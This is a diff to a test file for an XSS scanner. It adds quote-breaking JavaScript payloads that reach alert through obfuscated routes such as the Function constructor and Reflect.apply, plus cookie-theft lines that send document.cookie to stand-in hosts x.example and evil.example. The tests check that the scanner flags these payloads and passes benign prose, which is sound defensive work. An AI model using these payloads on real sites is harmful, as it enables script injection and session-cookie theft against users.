@@ -307,6 +307,11 @@ def test_joined_strings_that_make_no_script_pass(value: str) -> None:
         '";[alert][0](1)//',
         "';(1,alert)(1)//",
         "';navigator.sendBeacon('//x.example/b',document.cookie)//",  # the cookie sent as an argument
+        "';[1].map(top[/alert/.source])//",  # a global indexed by a name built at run time
+        "';Reflect.apply(document.defaultView['ale'.concat('rt')],0,[1])//",
+        "';(()=>1).constructor('ale'.concat('rt(1)'))()//",  # Function through a function's constructor
+        "';[]['at']['constructor']('alert(1)')()//",
+        "';navigator.sendBeacon('//x.example/b',document[/cookie/.source])//",
     ],
 )
 def test_handlers_that_fired_in_a_browser(payload: str) -> None:
@@ -320,7 +325,38 @@ def test_a_word_opening_a_quoted_value_is_text_unless_it_names_an_event() -> Non
 
 
 @pytest.mark.parametrize(
-    "value", ["Choose a level (alert, warning, info)", "Reflect.apply is a function", "read it with document.cookie"]
+    "value",
+    [
+        "Choose a level (alert, warning, info)",
+        "Reflect.apply is a function",
+        "read it with document.cookie",
+        "a=obj['na'.concat('me')];a(1)",
+        "x.constructor('a')",
+        "window['foo']",
+        "Please set up a new proxy (print server)",
+        "Options: (1, print) (2, email)",
+        "<p>cookies: document.cookie</p>",
+        "<pre><code>only_binary" + " " * 11 + "= :all:\none_shot" + " " * 14 + "= true</code></pre>",  # aligned
+    ],
 )
 def test_prose_naming_those_gadgets_is_text(value: str) -> None:
     assert xss.scan(value, CTX) is None
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "the eval() function is slow, avoid it",
+        "setTimeout(() => done(), 100)",
+        "fetch('/api/items').then(r => r.json())",
+    ],
+)
+def test_sink_calls_that_run_nothing_are_code_samples(value: str) -> None:
+    """No argument to run, a timer given a function, a fetch of a same-origin path written whole."""
+    assert xss.scan(value, CTX) is None
+
+
+def test_sink_calls_that_run_something_are_still_reported() -> None:
+    payloads = ("fetch('//evil.example/'+document.cookie)", "setTimeout('alert(1)')", "alert()", "eval() eval(name)")
+    for payload in payloads:
+        assert xss.scan(payload, CTX) is not None, payload
